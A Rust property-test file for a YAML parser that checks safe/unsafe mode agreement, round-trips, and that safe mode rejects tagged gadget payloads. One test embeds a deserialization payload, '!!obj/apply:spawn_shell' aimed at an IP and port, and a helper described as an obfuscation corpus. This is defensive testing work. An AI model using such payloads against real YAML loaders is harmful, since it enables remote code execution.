//! Property suites: safe/unsafe mode agreement on tag-free documents,
//! serialize/reparse round-trips, and mitigation completeness.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use minyaml::{parse_safe, parse_unsafe, serialize, GadgetRegistry, Node, Scalar, UnsafeNode};
use proptest::prelude::*;

fn arb_scalar() -> impl Strategy<Value = Scalar> {
    prop_oneof![
        Just(Scalar::Null),
        any::<bool>().prop_map(Scalar::Bool),
        any::<i64>().prop_map(Scalar::Int),
        // Finite floats only: NaN breaks equality, and the subset has no
        // syntax to round-trip it anyway.
        any::<f64>()
            .prop_filter("finite", |f| f.is_finite())
            .prop_map(Scalar::Float),
        ".*".prop_map(Scalar::Str),
    ]
}

// Mapping keys must be distinct under Scalar equality.
fn arb_entries(depth: u32) -> impl Strategy<Value = Vec<(Scalar, Node)>> {
    prop::collection::vec((arb_scalar(), arb_node(depth)), 1..4).prop_map(|mut entries| {
        let mut seen: Vec<Scalar> = Vec::new();
        entries.retain(|(k, _)| {
            if seen.iter().any(|s| s == k) {
                false
            } else {
                seen.push(k.clone());
                true
            }
        });
        entries
    })
}

fn arb_node(depth: u32) -> BoxedStrategy<Node> {
    if depth == 0 {
        arb_scalar().prop_map(Node::Scalar).boxed()
    } else {
        prop_oneof![
            3 => arb_scalar().prop_map(Node::Scalar),
            1 => prop::collection::vec(arb_node(depth - 1), 0..4).prop_map(Node::Sequence),
            1 => arb_entries(depth - 1).prop_map(Node::Mapping),
        ]
        .boxed()
    }
}

fn counting_registry() -> (GadgetRegistry<u64>, Arc<AtomicU64>) {
    let count = Arc::new(AtomicU64::new(0));
    let mut reg = GadgetRegistry::new();
    for name in ["spawn_shell", "local_shell", "probe"] {
        let c = count.clone();
        reg.register(name, move |_args: &[Node]| {
            Ok(c.fetch_add(1, Ordering::SeqCst) + 1)
        });
    }
    (reg, count)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    // serialize then reparse in safe mode reproduces the node exactly.
    #[test]
    fn round_trip(node in arb_node(3)) {
        let text = serialize(&node);
        let reparsed = parse_safe(&text)
            .unwrap_or_else(|e| panic!("reparse failed: {e}\n--- doc ---\n{text}"));
        prop_assert_eq!(reparsed, node);
    }

    // For tag-free documents the two modes agree for any registry, and no
    // gadget is ever invoked.
    #[test]
    fn mode_agreement(node in arb_node(3)) {
        let text = serialize(&node);
        let safe = parse_safe(&text).unwrap();
        let (reg, count) = counting_registry();
        let parsed = parse_unsafe(&text, &reg).unwrap();
        prop_assert_eq!(parsed.root, UnsafeNode::Plain(safe));
        prop_assert!(parsed.invoked.is_empty());
        prop_assert_eq!(count.load(Ordering::SeqCst), 0);
    }
}

// Tagged payload embedded at different positions of an otherwise benign
// document. Used both here and as the attack-side obfuscation corpus.
fn tagged_variants(tag_line: &str) -> Vec<String> {
    vec![
        tag_line.to_string(),
        format!("mode: {tag_line}"),
        format!("- 1\n- {tag_line}"),
        format!("outer:\n  inner: {tag_line}"),
        format!("outer:\n  - {tag_line}"),
        format!("a: 1\nb:\n  {tag_line}"),
    ]
}

#[test]
fn mitigation_completeness_over_tagged_corpus() {
    let payload = "!!obj/apply:spawn_shell ['16.0.0.30', 4444]";
    for doc in tagged_variants(payload) {
        let (reg, count) = counting_registry();
        // Safe mode rejects with ForbiddenTag and invokes nothing.
        match parse_safe(&doc) {
            Err(minyaml::ParseError::ForbiddenTag { .. }) => {}
            other => panic!("doc {:?}: expected ForbiddenTag, got {:?}", doc, other),
        }
        assert_eq!(count.load(Ordering::SeqCst), 0, "safe parse invoked a gadget for {:?}", doc);
        // The identical document under unsafe parsing does invoke.
        let parsed = parse_unsafe(&doc, &reg).unwrap();
        assert_eq!(parsed.invoked.len(), 1, "doc {:?}", doc);
        assert_eq!(count.load(Ordering::SeqCst), 1);
    }
}

#[test]
fn safe_parse_never_returns_gadget_calls() {
    // parse_safe has no registry parameter at all; the strongest static
    // guarantee. Dynamically: a registry in scope sees zero invocations
    // across a corpus of benign and hostile documents.
    let (_reg, count) = counting_registry();
    let docs = [
        "a: 1".to_string(),
        "[1, 2, 3]".to_string(),
        "x: [a, b]".to_string(),
    ]
    .into_iter()
    .chain(tagged_variants("!!obj/apply:probe []"));
    for doc in docs {
        let _ = parse_safe(&doc);
    }
    assert_eq!(count.load(Ordering::SeqCst), 0);
}
